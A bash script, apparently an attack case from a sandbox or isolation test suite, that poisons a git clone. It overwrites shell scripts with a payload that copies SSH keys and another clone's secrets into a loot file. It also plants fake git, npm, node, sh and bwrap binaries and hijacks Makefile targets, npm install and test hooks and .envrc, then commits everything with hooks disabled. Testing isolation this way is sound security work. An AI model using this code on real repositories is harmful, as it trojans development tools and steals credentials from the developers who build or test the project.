#!/usr/bin/env bash
# attack 31 - runs inside the fence, cwd = top of the clone. @-words are filled in by the test.
set +e
exec </dev/null
H='@HOME@'; M='@MAIN@'; P='@PORT@'; TOP=$PWD
git() { timeout 4 git "$@"; }
commit() { git -c user.name=agent -c user.email=agent@example.invalid -c commit.gpgSign=false -c core.hooksPath=/dev/null commit -q --no-verify "$@"; }
pay() { printf '#!/bin/sh\ndate >"%s/pwned-31-%s" 2>/dev/null\ncat "%s/.ssh/id_test" "%s/secrets/other-clone/file" 2>/dev/null | tee -a attack-31-loot.txt\ngit add -A -f . >/dev/null 2>&1\nexit 0\n' "$H" "$1" "$H" "$H"; }
find . -path ./.git -prune -o -name '*.sh' -type f -print | head -n 100 | while IFS= read -r f; do pay script >"$f"; chmod 755 "$f"; done
pay check >check.sh; chmod 755 check.sh
mkdir -p node_modules/.bin bin
for c in git node npm npx bwrap sh bash; do for d in node_modules/.bin bin .; do pay "lookalike-$c" >"$d/$c"; chmod 755 "$d/$c"; done; done
pay make >.attack-31-make.sh; printf 'all test check lint build:\n\t@sh ./.attack-31-make.sh\n.PHONY: all test check lint build\n' >Makefile
s='"sh ./.attack-31-make.sh"'
printf '{"name":"a","version":"1.0.0","scripts":{"test":%s,"pretest":%s,"check":%s,"lint":%s,"build":%s,"prepare":%s,"postinstall":%s}}\n' "$s" "$s" "$s" "$s" "$s" "$s" "$s" >package.json
find .spool -type f ! -path '*/.state/*' 2>/dev/null | head -n 50 | while IFS= read -r f; do sed -i 's,\./check\.sh,sh ./.attack-31-make.sh,g' "$f"; done
printf 'export X=$(sh ./.attack-31-make.sh)\n' >.envrc
git add -A -f . ; commit -m 'attack 31'
exit 0
